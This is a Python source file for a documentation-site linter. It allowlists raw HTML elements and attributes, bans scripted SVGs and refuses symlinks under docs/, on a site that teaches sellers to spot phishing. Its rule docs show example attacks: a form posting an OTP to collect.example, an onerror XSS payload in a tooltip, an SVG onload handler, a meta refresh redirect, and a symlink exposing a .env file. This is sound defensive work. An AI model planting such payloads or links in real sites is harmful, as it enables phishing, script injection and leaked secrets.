"""Active HTML by allowlist: raw HTML in Markdown may use only the elements and
attributes the site needs, since a pull request must never be able to put a
script, a form posting elsewhere, a redirect or a remote stylesheet on the
site. Checked in every Markdown file that reaches the build (pages and
docs/includes/ snippets) and in every SVG under docs/. Symlinks under docs/
are refused: the build copies whatever they point to into the site.

The allowlist is what docs/ uses today plus plain text markup; anything else
needs a reviewed change here. `on*` handlers and <script>/<iframe>/<object>/
<embed> are LP006's findings (one code per mistake); this module reports the
rest. HTML is parsed with the standard library's HTMLParser; SVG with
ElementTree (both treat the text as data, never fetch anything).
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from html.parser import HTMLParser

from ..findings import Severity, family, rule, rule_doc
from ..site.model import Page, source_lines
from .lp_link_policy import ACTIVE_TAGS, ATTR_LIST

ALLOWED_TAGS = frozenset(
    # text and structure
    [
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "caption",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "u",
        "ul",
        "var",
        "wbr",
        "button",
        "fieldset",
        "form",
        "input",
        "label",
        "legend",
        "option",
        "output",
        "select",
        "textarea",
    ]
)
GLOBAL_ATTRS = frozenset(
    [
        "class",
        "id",
        "title",
        "lang",
        "dir",
        "role",
        "hidden",
        "tabindex",
        "markdown",
    ]  # markdown: md_in_html
)
TAG_ATTRS = {
    "a": {"href", "rel", "type", "hreflang"},
    "img": {"src", "alt", "width", "height", "loading", "decoding"},
    "ol": {"start", "reversed", "type"},
    "li": {"value"},
    "td": {"colspan", "rowspan", "headers"},
    "th": {"colspan", "rowspan", "headers", "scope"},
    "time": {"datetime"},
    "details": {"open"},
    "abbr": set(),
    "q": set(),
    "button": {"type", "name", "value", "disabled"},
    "input": set(
        [
            "type",
            "name",
            "value",
            "required",
            "min",
            "max",
            "step",
            "placeholder",
            "checked",
            "disabled",
            "readonly",
            "autocomplete",
            "inputmode",
            "pattern",
            "maxlength",
            "minlength",
            "size",
        ]
    ),
    "select": {"name", "required", "disabled", "multiple"},
    "option": {"value", "selected", "disabled"},
    "textarea": {"name", "rows", "cols", "required", "placeholder", "maxlength"},
    "label": {"for"},
    "output": {"for", "name"},
    "fieldset": {"disabled", "name"},
    "form": set(),  # no action/method/target: the form is read by the page's own script
}
ATTR_PREFIXES = ("aria-", "data-kb-")
# `<`/`>` in any spelling: raw, as entities, or numeric. Decoded once by the
# parser, so `&amp;lt;` (double-encoded) shows up here as `&lt;`.
MARKUP = re.compile(r"[<>]|&(?:lt|gt|#0*(?:60|62)|#x0*3[ce])\b;?", re.IGNORECASE)
ABBREVIATION = re.compile(r"^\s*\*\[([^\]]*)\]:\s*(.*)$")
ATTR_IN_LIST = re.compile(r"""([^\s=.#]+)\s*=\s*("[^"]*"|'[^']*'|\S+)""")


def _attribute_allowed(tag: str, name: str) -> bool:
    return name in GLOBAL_ATTRS or name in TAG_ATTRS.get(tag, ()) or name.startswith(ATTR_PREFIXES)


class _Elements(HTMLParser):
    """(line offset, col, tag, attributes, self-closing) of every start tag in a fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[int, int, str, list[tuple[str, str | None]], bool]] = []

    def handle_starttag(self, tag, attrs):
        line, col = self.getpos()
        self.found.append((line - 1, col, tag, attrs, False))

    def handle_startendtag(self, tag, attrs):
        line, col = self.getpos()
        self.found.append((line - 1, col, tag, attrs, True))


def elements(fragment: str) -> list[tuple[int, int, str, list[tuple[str, str | None]], bool]]:
    parser = _Elements()
    try:
        parser.feed(fragment)
        parser.close()
    except Exception:  # noqa: BLE001 - HTMLParser on garbage: report what was read
        pass
    return parser.found


def html_problems(page: Page) -> Iterator[tuple[str, int, int, str]]:
    """(code, line, col, message) for raw HTML outside the allowlist."""
    for html in page.html:
        for offset, col, tag, attrs, _self_closing in elements(html.text):
            line = html.line + offset
            if tag not in ALLOWED_TAGS and tag not in ACTIVE_TAGS:
                yield "HT001", line, col + 1, f"<{tag}> is not an element pages may use"
            for name, value in attrs:
                if name.startswith("on"):
                    continue  # LP006
                if not _attribute_allowed(tag, name):
                    yield "HT002", line, col + 1, f"attribute `{name}` is not allowed on <{tag}>"
                if value and MARKUP.search(value):
                    yield (
                        "HT003",
                        line,
                        col + 1,
                        f"attribute `{name}` of <{tag}> holds markup: {value[:40]!r}",
                    )


def _prose_lines(page: Page) -> Iterator[tuple[int, str]]:
    """(line number, text with code spans blanked) outside fenced code blocks."""
    return ((number, text) for number, text, in_code in source_lines(page) if not in_code)


def text_attribute_problems(page: Page) -> Iterator[tuple[str, int, int, str]]:
    """Markup in text that the site shows as a tooltip (Material inserts
    tooltips as HTML): abbreviation definitions, link titles and `{ … }`
    attribute lists."""
    for number, line in _prose_lines(page):
        abbreviation = ABBREVIATION.match(line)
        if abbreviation and MARKUP.search(abbreviation.group(2)):
            col = abbreviation.start(2) + 1
            yield "HT003", number, col, f"the definition of `{abbreviation.group(1)}` holds markup"
        if "{" in line and "=" in line:
            for attrs in ATTR_LIST.finditer(line):
                for match in ATTR_IN_LIST.finditer(attrs.group(1)):
                    name, value = match.group(1).lower(), match.group(2).strip("\"'")
                    col = attrs.start(1) + match.start() + 1
                    if name.startswith("on"):
                        continue  # LP006
                    if not (name in GLOBAL_ATTRS or name.startswith(ATTR_PREFIXES)):
                        yield (
                            "HT002",
                            number,
                            col,
                            f"attribute `{name}` is not allowed in `{{ … }}`",
                        )
                    if MARKUP.search(value):
                        yield "HT003", number, col, f"attribute `{name}` in `{{ … }}` holds markup"
    for link in page.links:
        if link.title and MARKUP.search(link.title):
            yield "HT003", link.line, link.col, f"the link title holds markup: {link.title[:40]!r}"


def _findings(docs, self, code: str):
    for page in docs.checked:
        if page.text is None:
            continue
        for found, line, col, message in (*html_problems(page), *text_attribute_problems(page)):
            if found == code:
                yield self.at(page.display, line, col, message)


DOC_HT001 = rule_doc(
    "Raw HTML can do anything a script can: a `<form>` posting the reader's details to another "
    "host, `<meta http-equiv=refresh>` sending them to a phishing page, `<style>` or `<link>` "
    "restyling the page from elsewhere. Pages may use only the elements in "
    "kb/rules/ht_html.py's allowlist.",
    '<meta http-equiv="refresh" content="0; url=https://example.com/">',
    "Write the content in Markdown; a link is `[text](https://sellercentral.amazon.com/)`.",
    "原始 HTML 能做脚本能做的事：`<form>` 把读者信息提交到别的网站，`<meta http-equiv=refresh>` "
    "把读者转到钓鱼页，`<style>` 或 `<link>` 从别处改写页面。"
    "页面只能使用 kb/rules/ht_html.py 允许列表中的元素。",
    '<meta http-equiv="refresh" content="0; url=https://example.com/">',
    "用 Markdown 写内容；链接写成 `[文字](https://sellercentral.amazon.com/)`。",
)


family(
    "HT",
    "html",
    title={"en": "Active HTML (HT)", "zh": "可执行的 HTML（HT）"},
    doc={
        "en": """\
The site teaches sellers to spot phishing, so it must never serve a script or a disguised link itself. Raw HTML in a page may use only the elements and attributes the site needs; attribute values, link titles and tooltip texts hold no markup; SVG files hold no script; and nothing under `docs/` is a symbolic link. Every file that reaches the build is checked, `docs/includes/` too.
""",
        "zh": """\
本站教卖家识别钓鱼，自己绝不能提供脚本或伪装的链接。页面里的原始 HTML 只能用本站需要的元素和属性；属性值、链接标题和提示文字里不能有标记；SVG 文件里不能有脚本；`docs/` 下不能有符号链接。进入构建的每个文件都检查，包括 `docs/includes/`。
""",
    },
)


@rule(
    "HT001",
    "html-element-not-allowed",
    Severity.ERROR,
    "Raw HTML uses an element that is not on the site's allowlist (e.g. `<form action>`, "
    "`<meta>`, `<style>`, `<link>`, `<base>`).",
    "Write it in Markdown. If the site really needs the element, propose it in an issue so the "
    "allowlist in kb/rules/ht_html.py is reviewed.",
    title={"en": "HTML element not allowed", "zh": "不允许的 HTML 元素"},
    doc=DOC_HT001,
)
def html_element_not_allowed(docs, self):
    yield from _findings(docs, self, "HT001")


@rule(
    "HT002",
    "html-attribute-not-allowed",
    Severity.ERROR,
    "Raw HTML or a `{ … }` attribute list uses an attribute that is not on the allowlist "
    "(e.g. `style`, `action`, `formaction`, `srcset`).",
    "Remove the attribute; use a class from the site's stylesheet for looks.",
    title={"en": "HTML attribute not allowed", "zh": "不允许的 HTML 属性"},
    doc=rule_doc(
        "Attributes such as `action`, `formaction` or `style` send data elsewhere or change "
        "the page beyond the stylesheet reviewers know.",
        '<form action="https://collect.example/"><input name="otp"></form>',
        "Describe the step in words; never ask readers to type a code into the site.",
        "`action`、`formaction`、`style` 等属性会把数据发到别处，或绕过审阅过的样式表改变页面。",
        '<form action="https://collect.example/"><input name="otp"></form>',
        "用文字说明步骤；永远不要让读者在本站输入验证码。",
    ),
)
def html_attribute_not_allowed(docs, self):
    yield from _findings(docs, self, "HT002")


@rule(
    "HT003",
    "markup-in-text-attribute",
    Severity.ERROR,
    "An attribute value, link title or abbreviation definition holds markup (`<`, `>`, "
    "or `&lt;`/`&gt;` entities).",
    "Write plain words there: the site shows these texts as tooltips, and a tooltip that "
    "holds markup can run a script.",
    title={"en": "Markup inside an attribute or tooltip", "zh": "属性或提示文字里有标记"},
    doc=rule_doc(
        "Material's tooltips insert titles and abbreviation definitions as HTML, so "
        "`&lt;img src=x onerror=…&gt;` there runs in every reader's browser.",
        "*[OTP]: One-time password &lt;img src=x onerror=alert(1)&gt;",
        "*[OTP]: One-time password: a verification code that works once",
        "Material 的提示框把标题和缩写释义当作 HTML 插入，所以其中的 `&lt;img src=x onerror=…&gt;` "
        "会在每位读者的浏览器里运行。",
        "*[OTP]: 一次性密码 &lt;img src=x onerror=alert(1)&gt;",
        "*[OTP]: 一次性密码：只能使用一次的验证码",
    ),
)
def markup_in_text_attribute(docs, self):
    yield from _findings(docs, self, "HT003")


SVG_NS = re.compile(r"^\{[^}]*\}")
SVG_ACTIVE = {"script", "foreignobject", "iframe", "embed", "object", "handler", "listener"}
XLINK_HREF = "{http://www.w3.org/1999/xlink}href"


def svg_problems(text: str) -> Iterator[str]:
    if re.search(r"<!(?:DOCTYPE|ENTITY)", text, re.IGNORECASE):
        yield "declares a DOCTYPE or entities"
        return  # not parsed: entities can expand without bound
    try:
        tree = ET.fromstring(text)
    except ET.ParseError as error:
        yield f"is not well-formed XML ({error})"
        return
    for element in tree.iter():
        tag = SVG_NS.sub("", str(element.tag)).lower()
        if tag in SVG_ACTIVE:
            yield f"holds a <{tag}> element"
        for name, value in element.attrib.items():
            local = SVG_NS.sub("", name).lower()
            if local.startswith("on"):
                yield f"has an event attribute `{local}` on <{tag}>"
            elif local == "href" or name == XLINK_HREF:
                if not value.strip().startswith("#"):
                    yield f"<{tag}> links to `{value[:60]}` (only `#id` references are allowed)"
            elif local == "style" and re.search(r"url\s*\(\s*['\"]?(?!#)", value):
                yield f"<{tag}> style loads a URL"
        if (
            tag == "style"
            and element.text
            and re.search(r"@import|url\s*\(\s*['\"]?(?!#)", element.text)
        ):
            yield "<style> loads a URL"


@rule(
    "HT004",
    "svg-active-content",
    Severity.ERROR,
    "An SVG file under docs/ holds a script, an event attribute, a `<foreignObject>` or a link "
    "to another file or host.",
    "Export the image again as plain SVG (shapes and text only), or use a PNG.",
    title={"en": "Active content in an SVG", "zh": "SVG 文件里有可执行内容"},
    doc=rule_doc(
        "An SVG opened from the site runs its scripts with the site's address, and can load "
        "content from elsewhere.",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
        "从本站打开的 SVG 会以本站的地址运行其中的脚本，还能从别处加载内容。",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
    ),
)
def svg_active_content(docs, self):
    for path in docs.other_files:
        if path.suffix.lower() != ".svg":
            continue
        try:
            text = (docs.root / path).read_bytes().decode("utf-8", errors="replace")
        except OSError as error:
            yield self.at(path.as_posix(), 0, 0, f"cannot read: {error.strerror}")
            continue
        for problem in svg_problems(text):
            yield self.at(path.as_posix(), 1, 1, problem)


@rule(
    "HT005",
    "symlink-in-docs",
    Severity.ERROR,
    "A symbolic link under docs/: the build would publish whatever it points to.",
    "Replace the link with a copy of the file it should show, or remove it.",
    title={"en": "Symbolic link under docs/", "zh": "docs/ 下有符号链接"},
    doc=rule_doc(
        "MkDocs follows links, so a link to ~/.ssh or to a file outside the repository would "
        "be copied into the public site.",
        "$ ln -s ../../.env docs/en/notes.md",
        "$ rm docs/en/notes.md   # or copy the real file in",
        "MkDocs 会跟随链接，指向 ~/.ssh 或仓库外文件的链接会被复制进公开网站。",
        "$ ln -s ../../.env docs/zh/notes.md",
        "$ rm docs/zh/notes.md   # 或者复制真正的文件进来",
    ),
)
def symlink_in_docs(docs, self):
    for path in docs.symlinks:
        yield self.at(path.as_posix(), 0, 0, "symbolic link (not followed by the checks)")
